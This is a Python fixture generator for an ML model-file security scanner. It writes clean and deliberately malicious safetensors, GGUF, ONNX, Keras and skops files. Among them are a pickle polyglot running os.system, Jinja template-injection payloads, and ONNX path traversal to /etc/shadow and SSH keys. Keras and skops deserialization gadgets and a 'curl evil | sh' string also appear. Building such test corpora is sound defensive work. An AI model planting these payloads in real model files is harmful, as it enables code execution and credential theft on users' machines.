"""Regenerate the non-pickle format fixtures in this folder.

Benign files and most attacks are written by the real libraries (safetensors, gguf, onnx,
keras with the jax backend); hostile structures no library writes (overlapping offsets, huge
counts, duplicate names) are written byte by byte beside them. Nothing here ever loads a
fixture. Run from this folder:

    python -m venv /tmp/fmtvenv
    /tmp/fmtvenv/bin/pip install numpy safetensors gguf onnx keras jax h5py skops \
        tensorflow-cpu tf_keras
    KERAS_BACKEND=jax /tmp/fmtvenv/bin/python make_format_fixtures.py

Keras 2 (`tf_keras`) files are written in a child process, since TensorFlow and Keras 3 do not
share one interpreter well.

It rewrites every file listed in expected.csv except README.md.
"""

import io
import json
import os
import struct
import zipfile

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
ROWS = []


def out(name, data, verdict, note):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)
    assert len(data) < 100_000, (name, len(data))
    ROWS.append((name, verdict, note))


def read(path):
    with open(path, "rb") as f:
        return f.read()


# ---------------------------------------------------------------- safetensors

def safetensors_files():
    from safetensors.numpy import save

    tensors = {
        "weight": np.arange(12, dtype=np.float32).reshape(3, 4),
        "bias": np.zeros(4, dtype=np.float16),
    }
    out("st_benign.safetensors", save(tensors, metadata={"format": "np"}), "clean",
        "safetensors.numpy.save output with ordinary metadata")
    out("st_metadata_code.safetensors",
        save(tensors, metadata={"note": "import os; os.system('curl evil | sh')"}), "clean",
        "real file whose metadata looks like code: safetensors never executes metadata")

    def raw(header, data):
        h = json.dumps(header, separators=(",", ":")).encode() if isinstance(header, dict) else header
        return struct.pack("<Q", len(h)) + h + data

    data = bytes(range(32))
    out("st_overlap.safetensors",
        raw({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
             "b": {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]},
             "c": {"dtype": "F32", "shape": [2], "data_offsets": [24, 32]}}, data),
        "malicious", "two tensors share bytes 8..16: readers disagree")
    out("st_out_of_range.safetensors",
        raw({"a": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}}, data),
        "malicious", "tensor ends past the data area")
    dup = b'{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},' \
          b'"a":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}'
    out("st_duplicate_name.safetensors", raw(dup, data), "malicious",
        "tensor name appears twice: readers keep different copies")
    out("st_shape_overflow.safetensors",
        raw({"a": {"dtype": "F32", "shape": [2**62, 8], "data_offsets": [0, 32]}}, data),
        "malicious", "shape product overflows u64")
    out("st_size_mismatch.safetensors",
        raw({"a": {"dtype": "F32", "shape": [3], "data_offsets": [0, 32]}}, data),
        "suspicious", "shape says 12 bytes, offsets say 32")
    out("st_unknown_dtype.safetensors",
        raw({"a": {"dtype": "Q9", "shape": [32], "data_offsets": [0, 32]}}, data),
        "suspicious", "dtype no reader knows")
    out("st_gap.safetensors",
        raw({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]},
             "b": {"dtype": "F32", "shape": [2], "data_offsets": [24, 32]}}, data),
        "suspicious", "8 bytes between tensors belong to no tensor")
    out("st_trailing_bytes.safetensors",
        raw({"a": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, data),
        "suspicious", "16 bytes after the last tensor")
    out("st_metadata_not_string.safetensors",
        raw({"__metadata__": {"n": 1}, "a": {"dtype": "U8", "shape": [32], "data_offsets": [0, 32]}}, data),
        "suspicious", "__metadata__ value is not a string")
    out("st_header_too_large.safetensors", struct.pack("<Q", 200_000_000) + b"{}",
        "suspicious", "header length above MAX_HEADER_SIZE")
    out("st_truncated_header.safetensors", struct.pack("<Q", 500) + b'{"a":',
        "suspicious", "header length runs past the end of the file")
    out("st_bad_json.safetensors", raw(b'{"a": nope}', b""), "suspicious",
        "header is not JSON")
    out("st_polyglot_pickle.safetensors", polyglot(), "malicious",
        "valid safetensors whose bytes are also a pickle calling os.system")


def polyglot():
    """A well-formed safetensors file that is also a pickle running os.system.

    The header length n = 0x1C43 starts with 'C' (SHORT_BINBYTES) and a length byte of 28,
    which skips the zero bytes and the JSON up to a metadata string. Inside the string a
    chain of SHORT_BINBYTES hops (printable length bytes) skips to the data area, where a
    protocol-0 pickle calls os.system; a U8 tensor covers those bytes exactly.
    """
    payload = b"cos\nsystem\n(S'echo pwned'\ntR."
    n = 0x1C43
    prefix = b'{"__metadata__":{"p":"'
    assert 8 + len(prefix) == 2 + (n >> 8)
    tail = ('"},"t":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(payload), len(payload))).encode()
    start = 8 + len(prefix)
    data_start = 8 + n
    content = bytearray()
    pos = start
    # the last hop skips exactly the tail
    last = len(tail)
    while True:
        left = data_start - pos - (2 + last)
        if left == 0:
            break
        c = min(100, left - 2) if left - 2 >= 32 else None
        if c is None or left - (2 + c) in range(1, 34):
            c = left - 2 - 40 if left > 200 else left - 2
        assert 32 <= c <= 126 and c not in (34, 92), c
        content += b"C" + bytes([c]) + b"a" * c
        pos += 2 + c
    assert 32 <= last <= 126 and last not in (34, 92)
    content += b"C" + bytes([last])
    header = prefix + bytes(content) + tail
    assert len(header) == n, (len(header), n)
    return struct.pack("<Q", n) + header + payload


# ---------------------------------------------------------------- gguf

LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)
MISTRAL = (
    "{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
)
QWEN_TOOLS = (
    "{%- set ns = namespace(multi_step_tool=true, last_query_index=messages|length - 1) %}"
    "{%- for message in messages[::-1] %}{%- set index = (messages|length - 1) - loop.index0 %}"
    "{%- if ns.multi_step_tool and message.role == \"user\" and not(message.content.startswith('<tool_response>')) %}"
    "{%- set ns.multi_step_tool = false %}{%- set ns.last_query_index = index %}{%- endif %}{%- endfor %}"
    "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}"
    "{%- if message.tool_calls %}{%- for tool_call in message.tool_calls %}{{- tool_call.function.arguments | tojson }}"
    "{%- endfor %}{%- endif %}{%- endfor %}{# the user's request is answered below #}"
)
SSTI_CYCLER = "{{ cycler.__init__.__globals__.os.popen('id').read() }}" + CHATML
SSTI_ATTR = "{% for m in messages %}{{ m|attr('\\x5f\\x5fclass\\x5f\\x5f') }}{% endfor %}"
SSTI_LIPSUM = "{{ lipsum.__globals__['os'].popen('touch /tmp/pwned').read() }}"
SSTI_SUBCLASSES = "{% set x = ''['__cl' ~ 'ass__'] %}{{ x.__mro__[1].__subclasses__() }}"


def gguf_file(name, template=None, extra=None):
    import gguf

    path = os.path.join(HERE, name)
    w = gguf.GGUFWriter(path, "llama")
    w.add_name("tiny")
    if template is not None:
        w.add_chat_template(template)
    for k, v in (extra or {}).items():
        w.add_string(k, v)
    w.add_tensor("tok_embd.weight", np.arange(64, dtype=np.float32).reshape(8, 8))
    w.add_tensor("out.weight", np.ones((4, 8), dtype=np.float16))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    return read(path)


def gguf_files():
    for name, tpl, verdict, note in [
        ("gguf_llama3.gguf", LLAMA3, "clean", "Llama 3 chat template"),
        ("gguf_chatml.gguf", CHATML, "clean", "ChatML chat template"),
        ("gguf_mistral.gguf", MISTRAL, "clean", "Mistral chat template with raise_exception"),
        ("gguf_qwen_tools.gguf", QWEN_TOOLS, "clean", "Qwen-style template: namespace(), tojson, a comment saying 'request'"),
        ("gguf_ssti_cycler.gguf", SSTI_CYCLER, "malicious", "CVE-2024-34359 payload: cycler.__init__.__globals__.os.popen"),
        ("gguf_ssti_attr_filter.gguf", SSTI_ATTR, "malicious", "|attr() with an escaped dunder name"),
        ("gguf_ssti_lipsum.gguf", SSTI_LIPSUM, "malicious", "lipsum.__globals__ escape"),
        ("gguf_ssti_concat.gguf", SSTI_SUBCLASSES, "malicious", "dunder name built by concatenation, __mro__/__subclasses__ walk"),
        ("gguf_no_template.gguf", None, "clean", "weights only, no chat template"),
    ]:
        data = gguf_file(name, tpl)
        ROWS.append((name, verdict, note))
        assert len(data) < 100_000
    data = gguf_file("gguf_ssti_named_template.gguf", CHATML,
                     {"tokenizer.chat_template.tool_use": SSTI_CYCLER})
    ROWS.append(("gguf_ssti_named_template.gguf", "malicious",
                 "payload in a named template (tokenizer.chat_template.tool_use)"))

    def s(x):
        return struct.pack("<Q", len(x)) + x

    hdr = b"GGUF" + struct.pack("<I", 3)
    out("gguf_huge_kv_count.gguf", hdr + struct.pack("<QQ", 0, 2**61) + s(b"a") + struct.pack("<II", 4, 1),
        "malicious", "metadata count of 2^61 in a 40-byte file")
    out("gguf_huge_string.gguf",
        hdr + struct.pack("<QQ", 0, 1) + s(b"general.name") + struct.pack("<I", 8) + struct.pack("<Q", 2**63 + 5) + b"x",
        "malicious", "string length 2^63+5")
    out("gguf_huge_array.gguf",
        hdr + struct.pack("<QQ", 0, 1) + s(b"tokenizer.ggml.tokens") + struct.pack("<II", 9, 8) + struct.pack("<Q", 2**40),
        "malicious", "array of 2^40 strings in a tiny file")
    out("gguf_too_many_dims.gguf",
        hdr + struct.pack("<QQ", 1, 0) + s(b"t") + struct.pack("<I", 9) + struct.pack("<9Q", *[1] * 9) + struct.pack("<IQ", 0, 0),
        "malicious", "tensor with 9 dimensions (ggml allows 4)")

    def tensors_file(infos, data_len):
        body = hdr + struct.pack("<QQ", len(infos), 0)
        for name, dims, typ, off in infos:
            body += s(name) + struct.pack("<I", len(dims)) + struct.pack(f"<{len(dims)}Q", *dims) + struct.pack("<IQ", typ, off)
        body += b"\0" * (-len(body) % 32)
        return body + b"\0" * data_len

    out("gguf_overlapping_tensors.gguf", tensors_file([(b"a", [16], 0, 0), (b"b", [16], 0, 32)], 96),
        "malicious", "two F32 tensors share 32 bytes")
    out("gguf_tensor_past_end.gguf", tensors_file([(b"a", [64], 0, 0)], 32),
        "suspicious", "tensor data runs past the end of the file")
    out("gguf_unknown_tensor_type.gguf", tensors_file([(b"a", [16], 77, 0)], 64),
        "suspicious", "ggml type 77 does not exist")
    out("gguf_truncated.gguf", read(os.path.join(HERE, "gguf_chatml.gguf"))[:200],
        "suspicious", "real file cut inside its metadata: the next declared length is past the end")
    out("gguf_version_1.gguf", b"GGUF" + struct.pack("<III", 1, 0, 0), "suspicious",
        "GGUF v1 (32-bit counts), refused by current readers")


# ---------------------------------------------------------------- onnx

def onnx_model(initializers=(), domain="", opsets=(("", 17),), subgraph_init=None):
    import onnx
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
    nodes = [helper.make_node("Add", ["x", "w"], ["y"], domain=domain)]
    if subgraph_init is not None:
        then_out = helper.make_tensor_value_info("t", TensorProto.FLOAT, [4])
        then_g = helper.make_graph([helper.make_node("Identity", ["sw"], ["t"])], "then", [], [then_out],
                                   initializer=[subgraph_init])
        else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["t"])], "else", [], [then_out])
        cond = helper.make_tensor("c", TensorProto.BOOL, [], [True])
        nodes = [helper.make_node("If", ["c"], ["y"], then_branch=then_g, else_branch=else_g)]
        initializers = list(initializers) + [cond]
    g = helper.make_graph(nodes, "g", [x], [y], initializer=list(initializers))
    m = helper.make_model(g, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets],
                          producer_name="trainguard-fixtures")
    m.ir_version = 8
    return m.SerializeToString()


def external(name, location):
    from onnx import TensorProto, helper
    from onnx.external_data_helper import set_external_data

    t = helper.make_tensor(name, TensorProto.FLOAT, [4], np.zeros(4, np.float32).tobytes(), raw=True)
    set_external_data(t, location=location, offset=0, length=16)
    t.data_location = TensorProto.EXTERNAL
    t.ClearField("raw_data")
    return t


def onnx_files():
    from onnx import TensorProto, helper

    w = helper.make_tensor("w", TensorProto.FLOAT, [4], [1.0, 2.0, 3.0, 4.0])
    out("onnx_benign.onnx", onnx_model([w]), "clean", "onnx.helper Add model with an inline initializer")
    out("onnx_external_ok.onnx", onnx_model([external("w", "weights/w.bin")]), "clean",
        "external data inside the model folder")
    out("onnx_ms_domain.onnx", onnx_model([w], domain="com.microsoft", opsets=(("", 17), ("com.microsoft", 1))),
        "clean", "com.microsoft contrib domain ships with ONNX Runtime")
    out("onnx_external_absolute.onnx", onnx_model([external("w", "/etc/passwd")]), "malicious",
        "CVE-2022-25882: absolute external-data path")
    out("onnx_external_dotdot.onnx", onnx_model([external("w", "../../../../etc/shadow")]), "malicious",
        "CVE-2022-25882: ../ traversal")
    out("onnx_external_nested.onnx", onnx_model([external("w", "data/../../../../root/.ssh/id_rsa")]), "malicious",
        "CVE-2024-27318: traversal hidden after a folder name")
    out("onnx_external_subgraph.onnx",
        onnx_model([w], subgraph_init=external("sw", "..\\..\\windows\\win.ini")), "malicious",
        "traversal in an initializer of an If subgraph, with Windows separators")
    out("onnx_custom_domain.onnx", onnx_model([w], domain="com.evil.ops", opsets=(("", 17), ("com.evil.ops", 1))),
        "suspicious", "custom operator domain needs a native custom-op library")


# ---------------------------------------------------------------- keras

def keras_files():
    os.environ.setdefault("KERAS_BACKEND", "jax")
    import keras

    def seq(*layers):
        return keras.Sequential([keras.Input((4,)), *layers])

    def save(model, name):
        path = os.path.join(HERE, name)
        model.save(path)
        return read(path)

    def rezip(data, config):
        src = zipfile.ZipFile(io.BytesIO(data))
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            for n in src.namelist():
                z.writestr(n, json.dumps(config) if n == "config.json" else src.read(n))
        return buf.getvalue()

    benign = save(seq(keras.layers.Dense(2, activation="relu"), keras.layers.Dropout(0.1)), "keras_benign.keras")
    ROWS.append(("keras_benign.keras", "clean", "keras 3 Sequential Dense+Dropout"))
    save(seq(keras.layers.Lambda(lambda x: x * 2)), "keras_lambda.keras")
    ROWS.append(("keras_lambda.keras", "malicious", "keras 3 Lambda layer (marshalled bytecode)"))

    @keras.saving.register_keras_serializable(package="Acme")
    class Scale(keras.layers.Layer):
        def call(self, x):
            return x * 3

    save(seq(Scale()), "keras_custom_layer.keras")
    ROWS.append(("keras_custom_layer.keras", "suspicious", "registered custom layer Acme>Scale from module __main__"))

    cfg = json.loads(zipfile.ZipFile(io.BytesIO(benign)).read("config.json"))
    layers = cfg["config"]["layers"]

    def with_layer(layer):
        c = json.loads(json.dumps(cfg))
        c["config"]["layers"] = layers + [layer]
        return c

    torch_wrapper = {"module": "keras.layers", "class_name": "TorchModuleWrapper",
                     "config": {"name": "tw", "module": "gASV...torch.save bytes..."}, "registered_name": None}
    out("keras_torch_wrapper.keras", rezip(benign, with_layer(torch_wrapper)), "malicious",
        "CVE-2025-49655: TorchModuleWrapper runs torch.load")
    unsafe = {"module": "keras.layers", "class_name": "Dense",
              "config": {"units": 2, "activation": {"module": "keras.config", "class_name": "function",
                                                     "config": "enable_unsafe_deserialization",
                                                     "registered_name": "function"}},
              "registered_name": None}
    out("keras_enable_unsafe.keras", rezip(benign, with_layer(unsafe)), "malicious",
        "CVE-2025-9906: config calls keras.config.enable_unsafe_deserialization")
    get_file = {"module": "keras.utils", "class_name": "function", "config": "get_file",
                "registered_name": "function"}
    out("keras_get_file.keras",
        rezip(benign, with_layer({"module": "keras.layers", "class_name": "Dense",
                                  "config": {"units": 2, "kernel_initializer": get_file}, "registered_name": None})),
        "malicious", "CVE-2025-8747: keras.utils.get_file gadget")
    os_system = {"module": "keras.layers", "class_name": "Dense",
                 "config": {"units": 2, "activation": {"module": "os", "class_name": "function",
                                                        "config": "system", "registered_name": "system"}},
                 "registered_name": None}
    out("keras_os_module.keras", rezip(benign, with_layer(os_system)), "malicious",
        "CVE-2025-1550 style: config object from module os")
    foreign = {"module": "mytools.layers", "class_name": "Fancy", "config": {}, "registered_name": None}
    out("keras_foreign_module.keras", rezip(benign, with_layer(foreign)), "suspicious",
        "object from a module outside keras")

    lam = zipfile.ZipFile(io.BytesIO(read(os.path.join(HERE, "keras_lambda.keras"))))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for n in lam.namelist():
            if n != "metadata.json":
                z.writestr(n, lam.read(n))
    out("keras_lambda_no_metadata.keras", buf.getvalue(), "malicious",
        "Lambda in a .keras zip without metadata.json (Keras needs only config.json)")

    save(seq(keras.layers.Dense(2)), "keras_benign.h5")
    ROWS.append(("keras_benign.h5", "clean", "keras legacy HDF5 save of a Dense model"))
    save(seq(keras.layers.Lambda(lambda x: x + 1)), "keras_lambda.h5")
    ROWS.append(("keras_lambda.h5", "malicious", "keras legacy HDF5 with a Lambda layer"))
    save(seq(Scale()), "keras_custom_layer.h5")
    ROWS.append(("keras_custom_layer.h5", "suspicious", "keras legacy HDF5 with a registered custom layer"))
    for n, *_ in ROWS:
        if n.startswith("keras_"):
            assert os.path.getsize(os.path.join(HERE, n)) < 100_000, n


# ---------------------------------------------------------------- skops

def skops_files():
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    x = np.array([[0.0, 1.0], [1.0, 0.0], [1.0, 1.0], [0.0, 0.0]])
    model = LogisticRegression().fit(x, [0, 1, 1, 0])
    benign = sio.dumps(model)
    out("skops_benign.skops", benign, "clean", "skops.io.dumps of a fitted LogisticRegression")

    def rezip(schema):
        src = zipfile.ZipFile(io.BytesIO(benign))
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            for n in src.namelist():
                z.writestr(n, json.dumps(schema) if n == "schema.json" else src.read(n))
        return buf.getvalue()

    schema = json.loads(zipfile.ZipFile(io.BytesIO(benign)).read("schema.json"))

    def with_attr(name, node):
        s = json.loads(json.dumps(schema))
        s["content"]["content"][name] = node
        return s

    strs = lambda *xs: {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                        "content": [{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
                                     "content": json.dumps(x), "is_json": True} for x in xs]}
    out("skops_operator_func.skops",
        rezip(with_attr("hook", {"__class__": "attrgetter", "__module__": "operator",
                                 "__loader__": "OperatorFuncNode", "attrs": strs("__class__.__init__.__globals__")})),
        "malicious", "CVE-2025-54412: OperatorFuncNode attrgetter chain")
    out("skops_method_node.skops",
        rezip(with_attr("hook", {"__class__": "LogisticRegression", "__module__": "sklearn.linear_model",
                                 "__loader__": "MethodNode",
                                 "content": {"func": "__reduce_ex__", "obj": {"__class__": "dict",
                                             "__module__": "builtins", "__loader__": "DictNode", "content": {}}}})),
        "malicious", "CVE-2025-54413: MethodNode attribute access")
    out("skops_os_system.skops",
        rezip(with_attr("hook", {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode"})),
        "malicious", "os.system as a FunctionNode: runs once a user trusts get_untrusted_types()")
    out("skops_custom_type.skops",
        rezip(with_attr("hook", {"__class__": "Helper", "__module__": "mylib.tools", "__loader__": "ObjectNode",
                                 "content": {"__class__": "dict", "__module__": "builtins",
                                             "__loader__": "DictNode", "content": {}}})),
        "clean", "an untrusted custom type: skops itself refuses it unless trusted (a note)")


# ---------------------------------------------------------------- keras 2 (tf_keras)

KERAS2_ROWS = [
    ("keras2_functional.h5", "clean",
     "tf_keras functional model: TFOpLambda ops; BatchNormalization; Custom>Adam optimizer; mae metric"),
    ("keras2_lambda.h5", "malicious", "tf_keras Lambda layer (marshalled bytecode in model_config)"),
]


def keras2_child():
    import tensorflow as tf
    import tf_keras as k

    inp = k.Input((4,))
    x = k.layers.Dense(3, activation="relu")(inp)
    x = x + 1.0
    x = tf.reduce_mean(x, axis=-1, keepdims=True)
    x = k.layers.BatchNormalization()(x)
    m = k.Model(inp, x)
    m.compile(optimizer="adam", loss="mse", metrics=["mae"])
    m.save(os.path.join(HERE, "keras2_functional.h5"))
    m = k.Sequential([k.Input((4,)), k.layers.Lambda(lambda v: v * 2)])
    m.save(os.path.join(HERE, "keras2_lambda.h5"))


def keras2_files():
    import subprocess
    import sys

    subprocess.run([sys.executable, os.path.abspath(__file__), "keras2"], check=True)
    for name, verdict, note in KERAS2_ROWS:
        assert os.path.getsize(os.path.join(HERE, name)) < 100_000, name
        ROWS.append((name, verdict, note))


def main():
    safetensors_files()
    gguf_files()
    onnx_files()
    keras_files()
    keras2_files()
    skops_files()
    with open(os.path.join(HERE, "expected.csv"), "w") as f:
        f.write("file,expected_verdict,note\n")
        for name, verdict, note in ROWS:
            note = note.replace(",", ";")
            f.write(f"{name},{verdict},{note}\n")


if __name__ == "__main__":
    import sys

    if sys.argv[1:] == ["keras2"]:
        keras2_child()
    else:
        main()
